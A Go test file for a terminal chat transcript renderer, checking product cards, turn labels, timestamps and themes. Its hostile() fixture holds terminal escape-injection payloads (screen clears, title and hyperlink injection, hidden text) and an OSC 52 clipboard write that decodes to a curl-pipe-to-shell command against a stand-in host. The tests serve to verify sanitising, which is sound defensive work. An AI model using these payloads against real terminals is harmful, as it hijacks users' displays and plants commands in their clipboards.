package transcript

import (
	"runtime"
	"strings"
	"testing"
	"time"

	"aui-tui/api"
	"aui-tui/theme"

	"github.com/charmbracelet/x/ansi"
)

func genEntriesOptions() []api.ProductOption {
	mk := func(rec bool, name, price, capacity, color string) api.ProductOption {
		return api.ProductOption{IsRecommended: rec, WidgetParameters: []api.Parameter{
			{Title: "Product name", Value: api.StringValue(name)},
			{Title: "Price", Value: api.StringValue(price)},
			{Title: "Capacity", Value: api.StringValue(capacity)},
			{Title: "Color", Value: api.StringValue(color)},
			{Title: "Energy rating", Value: api.StringValue("")},
			{Title: "Description", Value: api.StringValue("A very long description that cannot possibly fit inside one card row")},
		}}
	}
	return []api.ProductOption{
		mk(true, "Samsung MS23K3513AS", "$358.08", "23 l", "Black"),
		mk(false, "Panasonic NN-SN686S", "$289.00", "32 l", "Stainless steel"),
		mk(false, "Bosch Serie 6", "$612.50", "21 l", "White"),
	}
}

func cardEntry() Entry {
	e := agentEntry("cards", "I found **three** microwaves that fit:", testStart)
	e.Msg.Options = genEntriesOptions()
	e.Msg.VariantsOptions = []api.ProductOption{
		{WidgetParameters: []api.Parameter{{Title: "Color", Value: api.StringValue("Black")}, {Title: "Capacity", Value: api.StringValue("20 l")}}},
		{WidgetParameters: []api.Parameter{{Title: "Color", Value: api.StringValue("Stainless")}, {Title: "Capacity", Value: api.StringValue("25 l")}}},
	}
	return e
}

func TestCardsRenderWithBadgeAndVariants(t *testing.T) {
	m := newModel(t, 120, 30, true, []Entry{cardEntry()})
	v := m.View()
	checkFrame(t, m, 120, 30)
	p := ansi.Strip(v)
	for _, want := range []string{"★ recommended", "Samsung MS23K3513AS", "Panasonic NN-SN686S", "Bosch Serie 6",
		"Price", "$358.08", "Capacity", "Variants: Black · 20 l │ Stainless · 25 l"} {
		if !strings.Contains(p, want) {
			t.Errorf("view lacks %q", want)
		}
	}
	if strings.Contains(p, "Energy rating") {
		t.Error("empty parameter values must be skipped")
	}
	if !strings.Contains(p, "A very long") || !strings.Contains(p, "…") {
		t.Error("long values must be truncated with …")
	}
	if strings.Count(p, "★ recommended") != 1 {
		t.Error("only the recommended card has the badge")
	}
	sideBySide := false
	for _, l := range plainLines(v) {
		if strings.Count(l, "╭") == 3 {
			sideBySide = true
		}
	}
	if !sideBySide {
		t.Error("three cards must sit side by side at width 120")
	}
	// The recommended card uses its own border style.
	if !strings.Contains(v, m.st.Card.Badge.Render("★ recommended")) {
		t.Error("badge is not styled")
	}
	// Parameter rows are aligned: the values start in one column.
	col := -1
	for _, l := range plainLines(v) {
		if i := strings.Index(l, "$358.08"); i >= 0 {
			col = ansi.StringWidth(l[:i])
		}
	}
	for _, l := range plainLines(v) {
		if i := strings.Index(l, "23 l"); i >= 0 && ansi.StringWidth(l[:i]) != col {
			t.Errorf("value column differs: %q", l)
		}
	}
}

func TestCardsWrapToPaneWidth(t *testing.T) {
	for _, w := range []int{40, 66, 80, 100} {
		m := newModel(t, w, 60, true, []Entry{cardEntry()})
		checkFrame(t, m, w, 60)
		per := 0
		for _, l := range plainLines(m.View()) {
			per = max(per, strings.Count(l, "╭"))
		}
		want, _ := cardLayout(w-gutterWidth, 3)
		if per != want {
			t.Errorf("width %d: %d cards per row, want %d", w, per, want)
		}
	}
}

func TestCardsNewShape(t *testing.T) {
	e := agentEntry("c", "", testStart)
	e.Msg.Cards = []api.Card{{
		Name: "Miele M 7244 TC", IsRecommended: true,
		Parameters: []api.Parameter{{Title: "Price", Value: api.NumberValue(1299)}},
		SubEntities: []api.SubEntity{{Name: "Finish", Items: []api.SubEntityItem{
			{Parameters: []api.Parameter{{Title: "Finish", Value: api.StringValue("Black Stainless")}}},
			{Parameters: []api.Parameter{{Title: "Finish", Value: api.StringValue("White")}}},
		}}},
	}}
	m := newModel(t, 80, 20, false, []Entry{e})
	p := ansi.Strip(m.View())
	// The variants are listed by name, not counted.
	for _, want := range []string{"Miele M 7244 TC", "★ recommended", "1299", "Finish", "Black Stainless, White"} {
		if !strings.Contains(p, want) {
			t.Errorf("view lacks %q", want)
		}
	}
}

func TestUserAndAgentTurnsDiffer(t *testing.T) {
	es := []Entry{
		userEntry("u", "I need a **built-in** microwave", testStart),
		agentEntry("a", "Sure, here is a **bold** idea.", testStart.Add(time.Minute)),
	}
	m := newModel(t, 60, 10, true, es)
	ls := plainLines(m.View())
	if ls[0] != "  you · 09:00" || ls[1] != "  │ I need a **built-in** microwave" {
		t.Fatalf("user turn = %q", ls[:2])
	}
	if !strings.HasPrefix(strings.TrimLeft(ls[3], "▌ "), "agent · 09:01") || !strings.Contains(ls[4], "Sure, here is a bold idea.") {
		t.Fatalf("agent turn = %q", ls[3:5])
	}
	if !strings.Contains(m.View(), m.st.Chat.UserLabel.Render("you")) || !strings.Contains(m.View(), m.st.Chat.AgentLabel.Render("agent")) {
		t.Fatal("labels are not in their colours")
	}
}

func TestPendingFailedAndOlderDates(t *testing.T) {
	pending := userEntry("p", "on its way", testStart)
	pending.Status = StatusPending
	failed := userEntry("f", "did not make it", testStart.Add(time.Minute))
	failed.Status, failed.Err = StatusFailed, "network unreachable \x1b[31m"
	old := agentEntry("o", "from last year", time.Date(2025, 12, 24, 8, 30, 0, 0, time.UTC))
	week := agentEntry("w", "from last week", time.Date(2026, 3, 2, 8, 30, 0, 0, time.UTC))
	m := newModel(t, 70, 20, true, []Entry{old, week, pending, failed})
	p := ansi.Strip(m.View())
	for _, want := range []string{"sending…", "✗ network unreachable · ctrl+r to retry", "agent · 2025-12-24 08:30", "agent · Mar 2 08:30"} {
		if !strings.Contains(p, want) {
			t.Errorf("view lacks %q:\n%s", want, p)
		}
	}
	if !strings.Contains(m.View(), m.st.Chat.Failed.Render("✗ network unreachable · ctrl+r to retry")) {
		t.Error("failure is not in the Failed style")
	}
}

func TestWelcomeLabel(t *testing.T) {
	e := agentEntry("w", "Hi! How can I help?", time.Time{})
	e.Welcome = true
	m := newModel(t, 60, 6, true, []Entry{e})
	if ls := plainLines(m.View()); strings.TrimLeft(ls[0], "▌ ") != "welcome" {
		t.Fatalf("welcome header = %q", ls[0])
	}
}

// hostile is a message that tries every trick: clear the screen, move the
// cursor, set the title, write the clipboard, plant a hyperlink, use 8-bit
// CSI and OSC, and hide text with a carriage return.
func hostile() Entry {
	bad := "Hello\x1b[2J\x1b[H\x1b]0;pwned\x07 \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07" +
		"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \u009b31m8bit\u009d0;t\u009c fine\rgotcha " +
		"[a link](https://evil.example/x) and https://evil.example/auto\n\n- item \x1bP1$r\x1b\\ok"
	e := agentEntry("h", bad, testStart)
	e.Msg.Options = []api.ProductOption{{IsRecommended: true, WidgetParameters: []api.Parameter{
		{Title: "Product name", Value: api.StringValue("Evil\x1b]0;title\x07 Oven")},
		{Title: "Pri\x1b[2Jce", Value: api.StringValue("$1\x1b]52;c;eA==\x07")},
	}}}
	e.Msg.VariantsOptions = []api.ProductOption{{WidgetParameters: []api.Parameter{
		{Title: "Color", Value: api.StringValue("Red\u009b2J")},
	}}}
	return e
}

func TestHostileMessageNeverReachesView(t *testing.T) {
	u := userEntry("u", "me \x1b]52;c;eA==\x07 too \x1b[2J", testStart)
	f := userEntry("f", "x", testStart)
	f.Status, f.Err = StatusFailed, "server said \x1b]0;t\x07 no"
	for _, dark := range []bool{true, false} {
		m := newModel(t, 100, 40, dark, []Entry{u, f, hostile()})
		v := m.View()
		assertOnlySGR(t, v)
		for _, bad := range []string{"\x1b[2J", "\x1b]", "\u009b", "\u009d", "\x1bP", "\r", "\a"} {
			if strings.Contains(v, bad) {
				t.Fatalf("view holds %q", bad)
			}
		}
		p := ansi.Strip(v)
		for _, want := range []string{"Hello", "click", "8bit", "fine", "gotcha", "Evil Oven", "$1", "a link", "https://evil.example/x"} {
			if !strings.Contains(p, want) {
				t.Errorf("visible text %q was lost:\n%s", want, p)
			}
		}
		// The raw view and the streaming path are sanitised too.
		m = press(m, "v")
		assertOnlySGR(t, m.View())
		m = press(m, "esc")
		m.SetStreamText("s", hostile().Msg.Text)
		assertOnlySGR(t, m.View())
		assertOnlySGR(t, RenderAll([]Entry{u, f, hostile()}, theme.New(dark, false), nil, 80))
	}
}

func TestRenderAll(t *testing.T) {
	es := genEntries(30, testStart)
	out := RenderAll(es, theme.New(true, false), NewRenderer(), 90)
	assertOnlySGR(t, out)
	p := ansi.Strip(out)
	n := strings.Count(p, "you · ") + strings.Count(p, "agent · ")
	if n != 30 {
		t.Fatalf("RenderAll shows %d headers, want 30", n)
	}
	for _, l := range strings.Split(out, "\n") {
		if ansi.StringWidth(l) > 90 {
			t.Fatalf("line wider than 90: %q", l)
		}
	}
	if RenderAll(nil, theme.New(false, true), nil, 10) != "" {
		t.Fatal("empty transcript renders nothing")
	}
}

func TestThemeSwitchRerenders(t *testing.T) {
	m := newModel(t, 80, 20, true, genEntries(10, testStart))
	dark := m.View()
	m.SetStyles(theme.New(false, false))
	light := m.View()
	if dark == light || ansi.Strip(dark) != ansi.Strip(light) {
		t.Fatal("a theme switch must change colours and keep the text")
	}
	m.SetStyles(theme.New(false, true))
	assertOnlySGR(t, m.View())
}

func TestRenderAllInParallelKeepsOrder(t *testing.T) {
	es := genEntries(400, testStart)
	st := theme.New(true, false)
	prev := runtime.GOMAXPROCS(1)
	defer runtime.GOMAXPROCS(prev)
	one := RenderAll(es, st, NewRenderer(), 100)
	runtime.GOMAXPROCS(4)
	four := RenderAll(es, st, NewRenderer(), 100)
	if one != four {
		t.Fatal("rendering on four processors changed the output")
	}
}
